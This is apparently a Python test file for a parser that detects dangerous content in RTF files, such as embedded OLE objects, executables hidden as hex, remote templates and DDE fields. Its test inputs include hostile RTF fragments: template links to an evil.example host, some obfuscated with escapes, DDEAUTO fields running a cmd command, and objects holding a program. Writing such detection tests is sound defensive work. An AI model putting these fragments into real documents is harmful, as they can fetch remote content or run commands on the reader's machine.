"""RTF: what it carries and would do, hidden or not."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from parsers.containers.rtf_objects import carried_by
from tests.parsers.containers.test_packages import PE

OBJECT = rb"{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata %s}}}"


@pytest.mark.parametrize(
    ("data", "codes"),
    [
        (rb"{\rtf1 words of {\b this} kind\par}", ()),
        (OBJECT % b"00", ("ole-objects",)),
        (b"{\\rt{\\object\\objem\r\nb{\\*\\obj\r\ndata 00}}}", ("ole-objects",)),
        (b"{\\rtf1{\\object{\\*\\objdata\r\n0105}}}", ("ole-objects",)),
        (OBJECT % PE.hex().encode(), ("ole-objects", "program-inside")),
        (OBJECT % b"\r\n".join(b"%02X" % byte for byte in PE), ("ole-objects", "program-inside")),
        (OBJECT % (b"{\\*\\x ab}" + PE.hex().encode()), ("ole-objects", "program-inside")),
        (rb"{\rtf1{\*\template http://evil.example/a.rtf}hello}", ("has-remote-template",)),
        (rb"{\rtf1{\*\template \'68\'74\'74p://evil.example/a.rtf}hello}", ("has-remote-template",)),
        (rb"{\rtf1{\*\template \u104?\u116?tp://evil.example/a.rtf}hello}", ("has-remote-template",)),
        (rb"{\rtf1{\*\template \\\\evil.example\\a.dotm}hello}", ("has-remote-template",)),
        (rb"{\rtf1{\*\template C:\\Users\\orla\\Normal.dotm}hello}", ()),
        (rb'{\rtf1{\field{\*\fldinst DDEAUTO cmd "/c calc"}}}', ("has-dde",)),
        (rb'{\rtf1{\field{\*\fldinst {\rtlch\fcs1 DDE cmd "/c calc"}}}}', ("has-dde",)),
        (rb'{\rtf1{\field{\*\fldinst HYPERLINK "http://agency.example/"}{\fldrslt DDE sheet}}}', ()),
    ],
)
def test_what_acts_in_rtf_is_told(data: bytes, codes: tuple[str, ...]) -> None:
    """Objects, programs in their digits, templates from afar and DDE, broken by line ends and escapes too."""
    assert carried_by(data) == codes


@given(st.binary(max_size=300), st.sampled_from([b"", rb"\objdata ", rb"{\*\template ", rb"\fldinst "]))
def test_any_bytes_are_looked_at(noise: bytes, mark: bytes) -> None:
    """Nothing a stranger writes raises."""
    assert isinstance(carried_by(rb"{\rtf1" + mark + noise), tuple)
